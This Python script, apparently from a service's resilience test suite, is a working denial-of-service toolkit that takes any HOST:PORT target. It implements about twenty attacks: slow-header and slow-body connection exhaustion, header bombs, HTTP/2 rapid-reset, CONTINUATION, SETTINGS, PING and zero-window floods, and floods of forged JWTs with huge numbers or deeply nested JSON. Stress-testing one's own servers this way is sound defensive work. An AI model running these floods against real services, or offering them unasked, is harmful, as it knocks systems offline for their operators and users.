"""The attacks of scripts/flood. Each is a function of an address and a moment to end at; it uses little itself.

    attacks.py NAME HOST:PORT SECONDS        prints how much was sent, as JSON
"""
import base64
import hashlib
import hmac
import json
import resource
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
# Bursts a second: an attacker that uses a core by itself would only measure the machine.
BURSTS = 50


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(stream, path=b"/open", end=True, method=b"GET", whole=True):
    block = b"".join(literal(*pair) for pair in (
        (b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"oms.example")))
    return frame(HEADERS, (1 if end else 0) | (4 if whole else 0), stream, block)


class Peer:
    """A connection that is opened anew when the other side has closed it. It reads and forgets what comes."""

    def __init__(self, address, hello=b"", reads=True):
        self.address, self.hello, self.reads = address, hello, reads
        self.socket, self.stream, self.opened, self.sent = None, 1, 0, 0

    def send(self, data):
        try:
            if self.socket is None:
                self.socket = socket.create_connection(self.address, timeout=2)
                self.socket.setblocking(False)
                self.opened += 1
                self.socket.send(self.hello)
            if self.reads:
                while select.select([self.socket], [], [], 0)[0]:
                    if not self.socket.recv(1 << 16):
                        raise ConnectionResetError
            self.sent += self.socket.send(data)
        except BlockingIOError:
            pass
        except OSError:
            self.close()

    def close(self):
        if self.socket is not None:
            self.socket.close()
        # The next connection numbers its streams anew.
        self.socket, self.stream = None, 1

    def next_stream(self):
        self.stream += 2
        return self.stream


def bursts(until):
    """Yields so many times a second until the moment is there."""
    due = time.monotonic()
    while due < until:
        time.sleep(max(0, due - time.monotonic()))
        yield
        due += 1 / BURSTS


def flood(address, until, burst, connections=4, hello=PREFACE + frame(SETTINGS, 0, 0)):
    peers = [Peer(address, hello) for _ in range(connections)]
    for turn, _ in enumerate(bursts(until)):
        peer = peers[turn % connections]
        peer.send(burst(peer))
    return told(peers)


def told(peers):
    return {"connections": sum(peer.opened for peer in peers), "bytes": sum(peer.sent for peer in peers)}


def many(address, until, count, hello, drip):
    """Many connections, each of which says something now and then."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    peers = [Peer(address, hello, reads=False) for _ in range(min(count, hard - 200))]
    turn = 0
    for _ in bursts(until):
        # Opened a few at a time, and dripped upon in turn.
        for _ in range(max(1, len(peers) // (2 * BURSTS))):
            peers[turn % len(peers)].send(drip)
            turn += 1
    return told(peers)


def bodies(stream, data, count):
    return lambda peer: head(peer.next_stream(), end=False, method=b"POST") + frame(DATA, 0, peer.stream, data) * count


def resets(peer):
    streams = [peer.next_stream() for _ in range(50)]
    return b"".join(head(stream) + frame(RST, 0, stream, b"\0\0\0\x08") for stream in streams)


def slow_resets(peer):
    # The reset of the one before, which is under way by now.
    last = frame(RST, 0, peer.stream, b"\0\0\0\x08") if peer.stream > 1 else b""
    return last + head(peer.next_stream(), b"/large")


def provoked(peer):
    streams = [peer.next_stream() for _ in range(50)]
    return b"".join(head(stream, b"/large") + frame(WINDOW, 0, stream, b"\0\0\0\0") for stream in streams)


def zero_window(address, until):
    hello = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    # Few streams: each has the upstream fill the buffers of a connection, which is its own business.
    peers = [Peer(address, hello) for _ in range(10)]
    for turn, _ in enumerate(bursts(until)):
        peer = peers[turn % len(peers)]
        opening = b"".join(head(peer.next_stream(), b"/large") for _ in range(2)) if peer.stream < 80 else b""
        peer.send(opening + frame(PING, 0, 0, b"12345678"))
    return told(peers)


def part(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def bearer(header, claims, key):
    text = part(header) + b"." + part(claims)
    return text + b"." + part(hmac.new(key, text, hashlib.sha512).digest())


def tokens(address, until, make, at_once):
    """Requests with bad tokens, all of them different, that were made before."""
    def request(number):
        return (b"POST /api/guarded HTTP/1.1\r\nHost: oms.example\r\nContent-Length: 0\r\nAuthorization: Bearer "
                + make(number) + b"\r\n\r\n")
    made = [b"".join(request(turn * at_once + own) for own in range(at_once))
            for turn in range(int((until - time.monotonic()) * BURSTS) + BURSTS)]
    left = iter(made)
    return flood(address, until, lambda peer: next(left, made[0]), hello=b"")


PLAIN = b'{"alg":"HS512"}'
WRONG = b"w" * 64

ATTACKS = {
    "slow-heads": lambda to, until: many(to, until, 1000, b"GET /open HTTP/1.1\r\nHost: h\r\nX: ", b"x"),
    "slow-bodies": lambda to, until: many(
        to, until, 1000, b"POST /open HTTP/1.1\r\nHost: h\r\nContent-Length: 1000000\r\n\r\n", b"x"),
    "half-open": lambda to, until: many(to, until, 10_000, b"GET", b""),
    "head-bombs": lambda to, until: flood(
        to, until, lambda peer: b"GET /open HTTP/1.1\r\nHost: h\r\nX: " + b"x" * 65_536, hello=b""),
    "many-fields": lambda to, until: flood(
        to, until, lambda peer: b"GET /open HTTP/1.1\r\nHost: h\r\n" + b"X: x\r\n" * 500 + b"\r\n", hello=b""),
    "rapid-reset": lambda to, until: flood(to, until, resets),
    "slow-reset": lambda to, until: flood(to, until, slow_resets),
    "made-reset": lambda to, until: flood(to, until, provoked),
    "continuation": lambda to, until: flood(
        to, until, lambda peer: head(peer.next_stream(), whole=False) + frame(
            CONTINUATION, 0, peer.stream, literal(b"x", b"x" * 100)) * 200),
    "empty-data": lambda to, until: flood(to, until, bodies(1, b"", 1000)),
    "settings": lambda to, until: flood(to, until, lambda peer: frame(SETTINGS, 0, 0) * 1000),
    "ping": lambda to, until: flood(to, until, lambda peer: frame(PING, 0, 0, b"12345678") * 1000),
    "window-updates": lambda to, until: flood(to, until, lambda peer: frame(WINDOW, 0, 0, b"\0\0\0\x01") * 1000),
    "priority": lambda to, until: flood(to, until, lambda peer: frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 1000),
    "zero-window": zero_window,
    "bad-signatures": lambda to, until: tokens(
        to, until, lambda number: bearer(PLAIN, b'{"exp":%d}' % number, WRONG), 60),
    "distinct-kids": lambda to, until: tokens(
        to, until, lambda number: bearer(b'{"alg":"HS512","kid":"%d"}' % number, b'{"exp":1}', WRONG), 60),
    "huge-numbers": lambda to, until: tokens(
        to, until, lambda number: bearer(PLAIN, b'{"exp":%d%s}' % (number + 1, b"9" * 9000), WRONG), 6),
    "deep-json": lambda to, until: tokens(
        to, until, lambda number: bearer(PLAIN, b'{"exp":%d,"a":' % number + b"[" * 9000, WRONG), 6),
    "deep-headers": lambda to, until: tokens(
        to, until, lambda number: bearer(b'{"alg":"HS512","kid":"%d","a":' % number + b"[" * 9000, b"{}", WRONG), 6),
}


def main():
    name, to, seconds = sys.argv[1:]
    host, port = to.rsplit(":", 1)
    print(json.dumps(ATTACKS[name]((host, int(port)), time.monotonic() + float(seconds))))


if __name__ == "__main__":
    main()
